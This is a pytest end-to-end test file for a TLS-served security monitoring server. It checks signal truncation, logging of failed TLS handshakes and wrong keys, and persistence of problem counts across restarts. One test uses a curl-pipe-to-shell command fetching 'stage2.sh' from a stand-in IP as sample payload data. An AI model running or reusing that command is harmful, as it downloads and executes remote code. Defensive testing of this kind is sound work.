"""Issue 13 against a real `santamon serve` over TLS: a real-agent-shaped oversized signal is
stored shortened (200), failed TLS handshakes from real clients (one that does not trust the
certificate, plain HTTP, an old protocol) and a wrong key are logged once per address and
counted, the problems outlive a restart, and the reconnection note says how long in seconds."""

from __future__ import annotations

import json
import re
import socket
import ssl
import time
import urllib.error
import urllib.request
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from santamon.certs import write_self_signed

from .helpers import AGENT, ANALYST, ServerProcess, sample

pytestmark = pytest.mark.e2e

UNTRUSTED_WARNING = "TLS handshake failed: the client does not trust this server's certificate"


def wait_for(predicate: Any, what: str, timeout: float = 15.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.05)


def call(server: ServerProcess, method: str, path: str, body: Any = None,
         headers: dict[str, str] | None = None) -> tuple[int, bytes]:
    request = urllib.request.Request(
        server.url + path, method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"Content-Type": "application/json",
                 "User-Agent": "github.com/0x4d31/santamon/v0.3.1", **(headers or ANALYST)})
    try:
        with urllib.request.urlopen(request, timeout=10, context=server.ssl_context) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as refused:
        return refused.code, refused.read()


def metric(server: ServerProcess, name: str, **labels: str) -> float:
    _, text = call(server, "GET", "/metrics")
    for line in text.decode().splitlines():
        if line.startswith(name + "{") and all(f'{k}="{v}"' in line for k, v in labels.items()):
            return float(line.rsplit(" ", 1)[1])
    return 0.0


def problems(server: ServerProcess) -> dict[str, dict[str, Any]]:
    status, body = call(server, "GET", "/agents/problems")
    assert status == 200
    return {row["kind"]: row for row in json.loads(body)["problems"]}


def tls_server(tmp_path: Path, **env: str) -> ServerProcess:
    certs = tmp_path / "tls"
    if not (certs / "cert.pem").exists():
        write_self_signed(certs)
    trusting = ssl.create_default_context(cafile=certs / "cert.pem")
    return ServerProcess(tmp_path / "signals.db", ssl_context=trusting, env={
        "SANTAMON_TLS_CERT": str(certs / "cert.pem"), "SANTAMON_TLS_KEY": str(certs / "key.pem"),
        **env})


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    proc = tls_server(tmp_path_factory.mktemp("agentfail")).start()
    yield proc
    proc.kill()


def sm014_signal(command_line: str) -> dict[str, Any]:
    """As the agent's SM-014 sends it: the command line in execution.args and the tree."""
    signal = sample("signal-file-access")
    argv = ["/bin/bash", "-c", command_line]
    signal.update(signal_id="c0" * 16, rule_id="SM-014",
                  title="Process with a very long command line")
    signal["context"]["execution.args"] = argv
    signal["context"]["process_tree"][0]["args"] = argv
    return signal


def test_an_oversized_real_agent_signal_is_stored_shortened(server: ServerProcess):
    command_line = ("curl -fsSL https://203.0.113.9/stage2.sh | sh -s -- " * 1200)[:60_000]
    signal = sm014_signal(command_line)
    assert len(json.dumps(signal["context"], separators=(",", ":")).encode()) > 120_000
    status, body = call(server, "POST", "/ingest", signal, AGENT)
    assert status == 200, body
    assert json.loads(body) == {"status": "received", "signal_id": "c0" * 16, "duplicate": False}

    status, body = call(server, "GET", f"/signals/{'c0' * 16}")
    stored = json.loads(body)
    assert stored["shortened"] == ["context"] and stored["original_context_bytes"] > 120_000
    context = stored["context"]
    assert len(json.dumps(context, separators=(",", ":"), ensure_ascii=False).encode()) <= 100_000
    assert context.keys() == signal["context"].keys()
    for argv in (context["execution.args"], context["process_tree"][0]["args"]):
        assert argv[:2] == ["/bin/bash", "-c"]
        cut = re.fullmatch(r"(.*)…\[(\d+) bytes cut\]", argv[2])
        assert cut and command_line.startswith(cut[1])
        assert len(cut[1]) + int(cut[2]) == 60_000
    assert [node["path"] for node in context["process_tree"]] == [
        node["path"] for node in signal["context"]["process_tree"]]
    assert metric(server, "santamon_ingest_shortened_total", field="context") == 1
    assert problems(server)["context_shortened"]["client"] == "127.0.0.1"


def test_failed_handshakes_are_logged_once_per_address_and_counted(server: ServerProcess):
    untrusting = ssl.create_default_context()  # the system's CAs: not our certificate
    for _ in range(5):
        with pytest.raises(ssl.SSLCertVerificationError), socket.create_connection(
                ("127.0.0.1", server.port), timeout=5) as sock:
            untrusting.wrap_socket(sock, server_hostname="localhost")
    wait_for(lambda: metric(server, "santamon_tls_handshake_failures_total",
                            reason="untrusted_certificate") == 5, "five untrusted handshakes")
    wait_for(lambda: UNTRUSTED_WARNING in server.log(), "the warning")
    line, = [line for line in server.log().splitlines() if UNTRUSTED_WARNING in line]
    assert " WARNING " in line and "client=127.0.0.1 reason=untrusted_certificate" in line
    assert "openssl=TLSV1_ALERT_UNKNOWN_CA" in line

    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as sock:
        sock.sendall(b"GET /health HTTP/1.1\r\nHost: santamon\r\n\r\n")  # plain HTTP
        try:
            answer = sock.recv(1024)
        except ConnectionResetError:
            answer = b""
        assert answer == b""  # closed without an answer
    wait_for(lambda: "plain HTTP sent to the HTTPS port" in server.log(), "the HTTP warning")

    old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    old.check_hostname, old.verify_mode = False, ssl.CERT_NONE
    try:
        with warnings.catch_warnings():  # deprecated is the point: an agent this old
            warnings.simplefilter("ignore", DeprecationWarning)
            old.minimum_version = ssl.TLSVersion.TLSv1
            old.maximum_version = ssl.TLSVersion.TLSv1_1
        old.set_ciphers("DEFAULT:@SECLEVEL=0")
    except (ValueError, ssl.SSLError):
        old = None  # this OpenSSL cannot even offer TLS 1.0 and 1.1
    if old is not None:
        with pytest.raises(ssl.SSLError), socket.create_connection(
                ("127.0.0.1", server.port), timeout=5) as sock:
            old.wrap_socket(sock)
        wait_for(lambda: metric(server, "santamon_tls_handshake_failures_total",
                                reason="protocol_version") == 1, "the old protocol")
        assert "only TLS versions older than 1.2" in server.log()

    assert problems(server)["tls_failure"]["count"] == 6 + (old is not None)
    # A client that trusts the certificate is served as before, over the same listener.
    status, _ = call(server, "GET", "/health", headers={})
    assert status == 200
    assert server.log().count(UNTRUSTED_WARNING) == 1


def test_a_wrong_key_is_logged_once_with_the_host_it_claimed(server: ServerProcess):
    for _ in range(3):
        status, _ = call(server, "POST", "/ingest", sample("signal-file-access"),
                         {"X-API-Key": "revoked-agent-key-0123456789"})
        assert status == 401
    wait_for(lambda: "agent request refused" in server.log(), "the wrong-key warning")
    line, = [line for line in server.log().splitlines() if "agent request refused" in line]
    assert line.split(" ", 1)[1] == (
        "WARNING santamon.api.problems agent request refused: a wrong or revoked key "
        "client=127.0.0.1 path=/ingest claimed_host_id=mbp-alice")
    assert metric(server, "santamon_agent_key_failures_total", reason="invalid") == 3
    assert problems(server)["wrong_key"]["count"] == 3


def test_problems_outlive_a_restart_and_reconnections_say_seconds(tmp_path: Path):
    """Also: a fresh database's server logs no failed checkpoint (it did in 6 of 7 starts)."""
    proc = tls_server(tmp_path, SANTAMON_STALE_AFTER="1s",
                      SANTAMON_STALE_CHECK_INTERVAL="1s").start()
    try:
        with pytest.raises(ssl.SSLCertVerificationError), socket.create_connection(
                ("127.0.0.1", proc.port), timeout=5) as sock:
            ssl.create_default_context().wrap_socket(sock, server_hostname="localhost")
        assert call(proc, "POST", "/agents/heartbeat", sample("heartbeat"), AGENT)[0] == 200
        time.sleep(0.1)
        assert proc.stop() == 0  # writes what it counted on the way out
        proc.start()
        assert problems(proc)["tls_failure"]["count"] == 1

        def stale() -> bool:
            _, body = call(proc, "GET", "/agents")
            return json.loads(body)["heartbeats"][0]["status"] == "stale"

        wait_for(stale, "the agent to go stale")  # a second's threshold, counted from start
        assert call(proc, "POST", "/agents/heartbeat", sample("heartbeat"), AGENT)[0] == 200
        assert not stale()  # /agents writes the heartbeats held in memory, the note with them
        _, body = call(proc, "GET", "/signals?rule_id=AGENT-STALE&status=all")
        (alert,) = json.loads(body)["signals"]
        _, body = call(proc, "GET", f"/signals/{alert['signal_id']}")
        (note,) = [entry["note"] for entry in json.loads(body)["history"]]
        assert re.fullmatch(r"reconnected after \d+ s", note), note
        assert "checkpoint failed" not in proc.log()
    finally:
        proc.kill()
